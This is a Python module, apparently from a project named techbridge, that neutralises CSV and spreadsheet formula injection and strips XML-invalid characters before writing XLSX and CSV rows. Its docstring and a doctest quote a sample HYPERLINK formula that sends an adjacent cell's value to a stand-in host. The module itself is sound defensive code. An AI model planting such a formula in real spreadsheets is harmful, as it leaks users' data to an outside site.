"""The cells of every spreadsheet and CSV techbridge writes: text that cannot run, characters XML holds.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some readers
do so after a leading tab or carriage return: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in
an outcome a member recorded would send the next cell to another site when a manager clicks it.
``safe_cell`` prefixes such text with a single quote, as OWASP recommends against CSV injection, so
that it is shown and never run. Numbers, dates, booleans and empty cells keep their type: a negative
amount is a number, only *text* that starts with ``-`` is neutralised.

XML 1.0, so XLSX, cannot hold the C0 control characters other than tab, line feed and carriage return,
lone surrogates, U+FFFE or U+FFFF (openpyxl refuses them and the download failed). They are removed
from every cell, CSV included, *before* the prefix check, so that ``"\\x07=1+1"`` cannot become a
formula once cleaned.

``append_rows`` (XLSX) and ``csv_bytes`` are the writers of rows; the exports (catalogue/exporting.py),
the program report (reports/xlsx.py) and the cluster bundles (consortia/cluster.py) write through them.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def xml_text(text: str) -> str:
    """Return ``text`` without the characters XML 1.0 cannot hold (C0 controls but tab, LF, CR …)."""
    return _NOT_XML.sub("", text)


def safe_cell(value: Any) -> Any:
    """Return ``value`` as a spreadsheet cell may hold it: text cleaned and never a formula.

    Text loses the characters XML cannot hold, then gets a leading ``'`` if it starts with one of
    ``FORMULA_PREFIXES``; any other value (numbers, negative ones included, dates, booleans, None)
    is returned unchanged.

    >>> safe_cell('=HYPERLINK("http://evil.example","click")')
    '\\'=HYPERLINK("http://evil.example","click")'
    >>> safe_cell(-5), safe_cell("-5"), safe_cell("a\\x07b")
    (-5, "'-5", 'ab')
    """
    if not isinstance(value, str):
        return value
    text = xml_text(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Return ``values`` as ``safe_cell`` writes each of them."""
    return [safe_cell(value) for value in values]


def append_rows(sheet: Any, rows: Iterable[Sequence[Any]]) -> None:
    """Append ``rows`` (a header first, if any) to an openpyxl worksheet, each cell through ``safe_cell``."""
    for row in rows:
        sheet.append(safe_row(row))


def csv_bytes(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """Return a UTF-8 CSV of a header and ``rows``, each cell through ``safe_cell`` (None is empty)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(safe_row(columns))
    writer.writerows(safe_row(row) for row in rows)
    return out.getvalue().encode("utf-8")
